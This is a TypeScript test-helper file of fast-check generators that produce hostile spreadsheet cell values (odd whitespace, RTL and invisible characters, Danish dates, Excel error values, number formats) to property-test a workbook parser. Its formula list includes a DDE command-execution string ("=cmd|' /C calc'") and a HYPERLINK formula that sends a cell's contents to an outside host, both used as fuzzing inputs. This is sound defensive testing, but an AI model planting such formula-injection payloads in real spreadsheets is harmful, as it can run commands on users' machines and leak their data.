/**
 * fast-check arbitraries for hostile cell values: what people paste into a Sagsoversigt (Word
 * tables, web pages, other systems) and what Excel itself stores (serials in both date systems,
 * number formats, error values, formulas without a result). Shared by the parser properties
 * (test/property) and the workbook generator (test/hardening/generate.ts).
 */
import fc from 'fast-check';
import type { Cell, Day } from '../../src/domain/types';
import { FIRST_DAY, INVISIBLE, LAST_DAY, oracleYmd, pad2 } from './oracle';

export { INVISIBLE };

/** Spaces a pasted cell can carry around or inside a value. */
export const SPACES = [' ', '  ', '\t', '\n', '\r\n', '\u00A0', '\u2007', '\u202F', '\u3000'] as const;

/** Right-to-left text (Arabic, Hebrew) and mixed-direction fragments. */
export const RTL = [
  'مرحبا',
  'أحمد علي',
  'שלום',
  'עברית',
  '\u202Eأحمد\u202C',
  '\u200Fשלום 01-03-2021',
  'ج 2021-03-01',
] as const;

/** Text that a spreadsheet program would read as a formula if written as a typed value. */
export const FORMULA_TEXTS = [
  '=1+1',
  '=HYPERLINK("http://example.invalid/?x="&A1,"Klik")',
  "=cmd|' /C calc'!A0",
  '+45 12 34 56 78',
  '+1',
  '-2',
  '-1+1',
  '@SUM(A1:A3)',
  '@',
  '=',
  '=A1',
  "='Sagsoversigt'!A1",
] as const;

/** Fragments near the accepted forms, so random concatenations hit the parsers' edges. */
const FRAGMENTS = [
  '0',
  '1',
  '01',
  '12',
  '29',
  '31',
  '02',
  '13',
  '2021',
  '1899',
  '1900',
  '9999',
  '10000',
  '21',
  '-',
  '.',
  '/',
  ':',
  ' ',
  'kl.',
  'kl',
  'T',
  ',',
  'marts',
  'feb.',
  'Maj',
  'okt',
  'februar',
  'Ja',
  'nej',
  'J',
  'X',
  'yes',
  'No',
  'TRUE',
  'Ikke',
  'relevant',
  'Ny',
  'undersøgelse',
  'Opdatering',
  'Ingen',
  'ikke effektueret',
  'Vurdering fremgår ikke',
  'foretaget',
  '§',
  '52',
  'stk.',
  '3',
  'nr.',
  '7',
  '58',
  'Anbringelse',
  'frivillig',
  'tvangsmæssig',
  'Familiebehandling',
  'aflastning',
  'Kontaktperson',
  'døgnophold',
  'æ',
  'Ø',
  'å',
  '(',
  ')',
  '010203',
  '4118',
  '1234',
  '#N/A',
  '%',
  'e',
  'E+',
  '_x0041_',
] as const;

/** Concatenations of fragments, spaces, invisible and RTL characters. */
export const fragmentSoup: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      { weight: 8, arbitrary: fc.constantFrom(...FRAGMENTS) },
      { weight: 2, arbitrary: fc.constantFrom(...SPACES) },
      { weight: 1, arbitrary: fc.constantFrom(...INVISIBLE) },
      { weight: 1, arbitrary: fc.constantFrom(...RTL) },
    ),
    { minLength: 1, maxLength: 8 },
  )
  .map((parts) => parts.join(''));

/** Excel's limit for text in one cell. */
export const MAX_CELL_TEXT = 32767;

/** Strings of exactly 32,767 characters (Excel's cell limit), some with a value in front. */
export const longString: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom('', 'Ja', '01-03-2021', '010203-4118', 'Familiebehandling', '=1+1', 'مرحبا '),
    fc.constantFrom('x', ' ', 'æ', '\u200B', 'ש', '9'),
  )
  .map(([head, fill]) => head + fill.repeat(MAX_CELL_TEXT - head.length));

/** Any text: random Unicode (incl. lone surrogates), fragments, RTL, invisible, formulas, long text. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fragmentSoup },
  { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme-ascii', maxLength: 20 }) },
  { weight: 1, arbitrary: fc.constantFrom(...FORMULA_TEXTS) },
  { weight: 1, arbitrary: fc.constantFrom(...INVISIBLE, ...SPACES, '', ...RTL) },
  {
    weight: 1,
    arbitrary: fc.stringMatching(
      /^\s*\d{1,4}[-./ ]\d{1,4}[-./ ]\d{1,5}(\s+(kl\.\s*)?\d{1,2}[:.]\d{1,2})?\s*$/,
    ),
  },
  { weight: 1, arbitrary: fc.stringMatching(/^\s*\d{6}[- ]?\d{4}\s*$/) },
);

/** Numbers Excel can hold, plus the ones it cannot (NaN, infinities) that a reader might still produce. */
export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  { weight: 3, arbitrary: fc.double() },
  { weight: 3, arbitrary: fc.integer({ min: -100, max: 3_000_000 }) },
  { weight: 3, arbitrary: fc.double({ min: -2000, max: 3_000_000, noNaN: true }) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      0,
      -0,
      1,
      59,
      60,
      61,
      0.5,
      0.99999,
      1e-10,
      -1,
      2958465,
      2958465.9999,
      2958466,
      44256,
      44256.5,
      102031234,
      1203104118,
      9_999_999_999,
      10_000_000_000,
      Number.MAX_SAFE_INTEGER,
      Number.MIN_VALUE,
    ),
  },
);

export const NUMBER_FORMATS = [
  'dd-mm-yyyy',
  'd/m/yy',
  'yyyy-mm-dd hh:mm',
  'dd-mm-yyyy hh:mm',
  'mm-dd-yy',
  '[h]:mm',
  'mm:ss',
  'h:mm AM/PM',
  '0%',
  '0.00',
  '#,##0',
  '"dag "0',
  '@',
  'General',
  '[$-406]d. mmmm yyyy',
  '[Red]0',
  'dd-mm-yyyy;@',
  '000000-0000',
  '\\d0',
  '"yyyy"0',
] as const;

const numberFormat: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...NUMBER_FORMATS) },
  { weight: 1, arbitrary: fc.string({ maxLength: 12 }) },
);

export const ERROR_TEXTS = [
  '#N/A',
  '#REF!',
  '#VALUE!',
  '#DIV/0!',
  '#NAME?',
  '#NUM!',
  '#NULL!',
  '#SPILL!',
] as const;

/** Any snapshot cell, as an adapter can hand it to the core. */
export const hostileCell: fc.Arbitrary<Cell> = fc.oneof(
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 10, arbitrary: hostileString },
  { weight: 4, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 4, arbitrary: fc.record({ n: hostileNumber, fmt: numberFormat }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...ERROR_TEXTS), fc.option(fc.string({ maxLength: 20 }), { nil: undefined }))
      .map(([error, formula]): Cell => (formula === undefined ? { error } : { error, formula })),
  },
);

/** Pads a value with random spaces and invisible characters (which Excel shows as nothing). */
export function padded(value: fc.Arbitrary<string>): fc.Arbitrary<string> {
  const pad = fc
    .array(fc.constantFrom(' ', '\t', '\u00A0', ...INVISIBLE), { maxLength: 3 })
    .map((a) => a.join(''));
  return fc.tuple(pad, value, pad).map(([a, v, b]) => a + v + b);
}

/** Random upper/lower case per character. */
export function anyCase(s: string): fc.Arbitrary<string> {
  return fc
    .array(fc.boolean(), { minLength: s.length, maxLength: s.length })
    .map((ups) => [...s].map((ch, i) => (ups[i] ? ch.toUpperCase() : ch.toLowerCase())).join(''));
}

const MONTH_NAMES: readonly (readonly string[])[] = [
  ['januar', 'jan', 'jan.'],
  ['februar', 'feb', 'feb.'],
  ['marts', 'mar', 'mar.'],
  ['april', 'apr', 'apr.'],
  ['maj'],
  ['juni', 'jun', 'jun.'],
  ['juli', 'jul', 'jul.'],
  ['august', 'aug', 'aug.'],
  ['september', 'sep', 'sep.', 'sept', 'sept.'],
  ['oktober', 'okt', 'okt.'],
  ['november', 'nov', 'nov.'],
  ['december', 'dec', 'dec.'],
];

export interface DateText {
  readonly text: string;
  readonly day: Day;
  /** Minutes of the time written, or null. */
  readonly minutes: number | null;
}

/** A valid §2.3 date text (any form, optional time, random padding) and the day/time it means. */
export const dateTextIn = (min: Day, max: Day): fc.Arbitrary<DateText> =>
  fc
    .record({
      day: fc.integer({ min, max }),
      form: fc.constantFrom('dmy', 'dmy2', 'iso', 'month'),
      sep: fc.constantFrom('-', '.', '/'),
      shortDay: fc.boolean(),
      shortMonth: fc.boolean(),
      monthPick: fc.nat(),
      dotAfterDay: fc.boolean(),
      time: fc.option(
        fc.record({
          h: fc.integer({ min: 0, max: 23 }),
          mi: fc.integer({ min: 0, max: 59 }),
          style: fc.constantFrom(' HH:mm', ' H:mm', ' kl. HH.mm', ' kl.HH:mm', ', kl. HH.mm'),
        }),
        { nil: null },
      ),
      upper: fc.array(fc.boolean(), { minLength: 12, maxLength: 12 }),
    })
    .filter(({ day, form }) => form !== 'dmy2' || (oracleYmd(day).y >= 2000 && oracleYmd(day).y <= 2099))
    .chain((g) => {
      const { y, m, d } = oracleYmd(g.day);
      const dd = g.shortDay ? String(d) : pad2(d);
      const mm = g.shortMonth ? String(m) : pad2(m);
      let text: string;
      if (g.form === 'dmy') text = `${dd}${g.sep}${mm}${g.sep}${y}`;
      else if (g.form === 'dmy2') text = `${dd}${g.sep}${mm}${g.sep}${pad2(y % 100)}`;
      else if (g.form === 'iso') text = `${y}-${mm}-${dd}`;
      else {
        const names = MONTH_NAMES[m - 1] as readonly string[];
        const name = [...(names[g.monthPick % names.length] as string)]
          .map((ch, i) => (g.upper[i % 12] ? ch.toUpperCase() : ch))
          .join('');
        text = `${d}${g.dotAfterDay ? '.' : ''} ${name} ${y}`;
      }
      let minutes: number | null = null;
      if (g.time) {
        const { h, mi, style } = g.time;
        text += style.replace('HH', pad2(h)).replace('H', String(h)).replace('mm', pad2(mi));
        minutes = h * 60 + mi;
      }
      return padded(fc.constant(text)).map((t): DateText => ({ text: t, day: g.day, minutes }));
    });

/** A valid date text for any day from 01-01-1900 to 31-12-9999. */
export const validDateText: fc.Arbitrary<DateText> = dateTextIn(FIRST_DAY, LAST_DAY);
